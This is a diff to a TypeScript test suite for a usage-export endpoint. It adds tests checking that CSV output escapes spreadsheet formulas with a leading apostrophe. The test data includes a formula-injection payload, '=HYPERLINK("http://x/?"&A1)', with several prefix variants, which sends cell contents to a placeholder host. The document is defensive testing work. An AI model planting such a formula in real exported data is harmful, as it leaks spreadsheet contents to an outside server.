@@ -89,6 +89,13 @@ async function read(response: Response, format: ExportFormat): Promise<Rows> {
   }
 }
 
+/** As a spreadsheet may have it. */
+function asCells(row: Record<string, unknown>): Record<string, unknown> {
+  const cell = (value: unknown): unknown =>
+    typeof value === 'string' && '=+-@\t\r'.includes(value.slice(0, 1) || ' ') ? `'${value}` : value;
+  return Object.fromEntries(Object.entries(row).map(([name, value]) => [name, cell(value)]));
+}
+
 /** In one order: groups of `GET /usage` come by size, those of an export by bucket. */
 function inOrder(rows: Rows): string[] {
   return rows.map((row) => JSON.stringify(row)).sort();
@@ -111,8 +118,8 @@ describe('GET /usage/export', () => {
           const account = randomUUID();
           const { secret } = await exports.key(account);
           const ids = new Map<string, string>();
-          for (const id of ['k1', 'k2', 'k3']) {
-            ids.set(id, (await exports.key(account, { name: `"${id}", \\N` })).id);
+          for (const [id, sign] of Object.entries({ k1: '', k2: '-', k3: '@' })) {
+            ids.set(id, (await exports.key(account, { name: `${sign}"${id}", \\N` })).id);
           }
           const own = (id: string): string => ids.get(id) ?? id;
           const owned = events.map((event) => ({ ...event, keyId: own(event.keyId) }));
@@ -162,10 +169,37 @@ describe('GET /usage/export', () => {
     const expected = expectedRows((await response.json()) as UsageResponseDto, table);
     for (const format of EXPORT_FORMATS) {
       const rows = await read(await answerIn(format), format);
-      if (query.groupBy.length > 0) expect(inOrder(rows)).toEqual(inOrder(expected));
-      else expect(rows).toEqual(expected);
+      const written = format === 'csv' ? expected.map(asCells) : expected;
+      if (query.groupBy.length > 0) expect(inOrder(rows)).toEqual(inOrder(written));
+      else expect(rows).toEqual(written);
       // toEqual takes no notice of the order of columns, nor of undefined ones.
       expect(rows.map((row) => Object.keys(row).join())).toEqual(expected.map((row) => Object.keys(row).join()));
     }
   }
+
+  it.each(['=', '+', '-', '@', '\t', '\r', '＝'])(
+    'has no cell that a spreadsheet computes: text that begins with %j follows an apostrophe',
+    async (sign) => {
+      const account = randomUUID();
+      const { secret } = await exports.key(account);
+      const text = `${sign}HYPERLINK("http://x/?"&A1)`;
+      const { id: keyId } = await exports.key(account, { name: text });
+      const event = { timestamp: NOW, statusCode: 500, latencyMs: 1, requestBytes: 0, responseBytes: 0 };
+      const hostile = { endpoint: text, method: text, errorType: text, keyId };
+      await insertEvents(exports.clickhouse, account, [{ ...event, ...hostile }]);
+      const exported = async (search: string, format: ExportFormat): Promise<Rows> =>
+        read(await exports.get(secret, `/usage/export?${search}&format=${format}`), format);
+      for (const [search, column] of [
+        ['table=endpoints', 'endpoint'],
+        ['table=methods', 'method'],
+        ['table=errorTypes', 'type'],
+        ['table=keys', 'name'],
+        ['groupBy=endpoint', 'endpoint'],
+        ['groupBy=method', 'method'],
+      ] as const) {
+        expect((await exported(search, 'csv'))[0]?.[column]).toBe(`'${text}`);
+        expect((await exported(search, 'ndjson'))[0]?.[column]).toBe(text);
+      }
+    },
+  );
 });
